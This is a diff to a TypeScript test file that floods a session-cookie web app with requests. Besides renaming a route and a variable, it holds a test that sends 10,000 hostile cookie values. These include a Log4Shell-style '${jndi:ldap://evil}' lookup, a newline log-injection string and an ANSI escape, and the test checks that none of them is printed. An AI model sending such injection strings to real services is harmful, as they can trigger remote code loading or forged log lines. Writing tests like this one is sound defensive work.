@@ -49,7 +49,7 @@ describe('a flood of requests', { timeout: 300_000 }, () => {
     await using world = shop(new BackendStore(backend))
     const cookies = new Set<string>()
     for (let sent = 0; sent < FLOOD / 4; sent++) {
-      for (const path of ['/read', '/logout', '/renew', '/empty']) {
+      for (const path of ['/read', '/logout', '/regenerate', '/empty']) {
         const response = await world.get(path, sent % 2 === 0 ? undefined : 'x')
         for (const header of response.headers.getSetCookie()) cookies.add(header)
       }
@@ -94,8 +94,8 @@ describe('a flood of requests', { timeout: 300_000 }, () => {
   })
 
   test('10,000 bad cookies print nothing, and each event has a keyed hash of its cookie [LG-06, LG-05]', async () => {
-    const told: unknown[][] = []
-    const write = (...given: unknown[]) => (told.push(given), true)
+    const printed: unknown[][] = []
+    const write = (...given: unknown[]) => (printed.push(given), true)
     const spies = (['stdout', 'stderr'] as const).map((stream) =>
       vi.spyOn(process[stream], 'write').mockImplementation(write),
     )
@@ -107,7 +107,7 @@ describe('a flood of requests', { timeout: 300_000 }, () => {
     const hostile = ['${jndi:ldap://evil}', '%0aFAKE LINE', '\u001b[31mred', 'x'.repeat(8192)]
     const bad = Array.from({ length: FLOOD }, (_, n) => `${n}${hostile[n % hostile.length]}`)
     for (const value of bad) await world.get('/read', value)
-    expect(told).toEqual([])
+    expect(printed).toEqual([])
     const refused = listening.events.filter(({ type }) => type === 'refused')
     expect(new Set(refused.map(({ session }) => session)).size).toBe(FLOOD)
     const text = JSON.stringify(listening.events)
@@ -146,7 +146,7 @@ function shop(store: SessionStore, onError: (error: unknown) => void = () => {})
     routes: [
       route.get('/read', [Session], (session) => session.has('user')),
       route.get('/logout', [Session], (session) => session.destroy()),
-      route.get('/renew', [Session], (session) => session.regenerate()),
+      route.get('/regenerate', [Session], (session) => session.regenerate()),
       route.get('/empty', [Session], (session) => session.clear()),
       route.get('/write', [Session], (session) => void session.set('user', 'ada')),
       route.get('/unstorable', [Session], (session) => void session.set('cart', new Map())),
